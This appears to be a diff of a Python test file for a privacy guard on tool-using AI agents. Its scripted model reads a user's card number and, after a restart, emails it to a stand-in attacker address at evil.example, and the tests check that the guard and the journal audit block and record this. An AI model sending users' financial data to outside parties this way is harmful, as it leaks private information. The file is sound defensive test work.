@@ -8,6 +8,8 @@ from __future__ import annotations
 
 from typing import Any
 
+from _audit_trace import audit_journal, found, journaled_agent, live_denials
+from _turns import by_turn
 from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from test_privacy_integrity import mail_effect
@@ -15,13 +17,10 @@ from test_privacy_integrity import mail_effect
 from guards import (
     PrivacyFlow,
     PrivacyPolicy,
-    audit_trace,
     privacy_sink,
     privacy_source,
-    trace_from_journal,
 )
-from vfa import Agent, EffectJournal
-from vfa.testing import ScriptedModel
+from vfa import EffectJournal
 
 USER = "me@home.example"
 ATTACKER = "mallory@evil.example"
@@ -69,9 +68,8 @@ def _rule(messages: list[Any]) -> Any:
 
 
 def _app(sent: list, journal: EffectJournal, saver: InMemorySaver, rule: Any) -> Any:
-    flow = PrivacyFlow(POLICY, secret=b"s", journal=journal)
-    return Agent(ScriptedModel(rule=rule), _tools(sent), guards=[flow.guard()], flow=flow,
-                 journal=journal).compile(checkpointer=saver)
+    return journaled_agent(rule, _tools(sent), PrivacyFlow(POLICY, secret=b"s", journal=journal), journal,
+                           checkpointer=saver)
 
 
 def test_live_denies_the_lazy_card() -> None:
@@ -82,15 +80,9 @@ def test_live_denies_the_lazy_card() -> None:
 
 
 def test_a_rebuilt_thread_keeps_the_lazy_card_private() -> None:
-    def rule(messages: list[Any]) -> Any:  # reads the card, then (after the restart) mails it out
-        turn = sum(isinstance(m, AIMessage) for m in messages)
-        if turn == 0:
-            return AIMessage("", tool_calls=[{"name": "get_account", "args": {}, "id": "c1"}])
-        if turn == 2:
-            return AIMessage("", tool_calls=[{"name": "send_email", "id": "c2",
-                                              "args": {"to": [ATTACKER], "body": f"card {CARD}"}}])
-        return "ok"
-
+    # reads the card, then (after the restart) mails it out
+    rule = by_turn(("get_account", {}, "c1"), None,
+                   ("send_email", {"to": [ATTACKER], "body": f"card {CARD}"}, "c2"), then="ok")
     sent: list = []
     journal, saver = EffectJournal(), InMemorySaver()
     cfg = {"configurable": {"thread_id": "t"}}
@@ -105,9 +97,7 @@ def test_the_journal_audit_reports_what_live_denied() -> None:
     journal = EffectJournal()
     out = _app(sent, journal, InMemorySaver(), _rule).invoke(
         {"messages": [HumanMessage("Check my account.")]}, {"configurable": {"thread_id": "t"}})
-    live = sorted((e.call_id, v["rule"], v["arg"]) for e in journal.entries("t") if e.kind == "denied"
-                  for v in e.data["evidence"]["_violations"])
+    live = live_denials(journal)
     assert live == [("c2", "confidentiality", "body")]
-    found = audit_trace(trace_from_journal(journal, "t", messages=out["messages"]), _tools([]),
-                        flow=PrivacyFlow(POLICY, secret=b"s"), thread_id="t")
-    assert sorted((v.call_id, v.rule, v.arg) for v in found) == live, "the journal's audit finds nothing"
+    by_journal = audit_journal(journal, out["messages"], _tools([]), PrivacyFlow(POLICY, secret=b"s"))
+    assert found(by_journal) == live, "the journal's audit finds nothing"
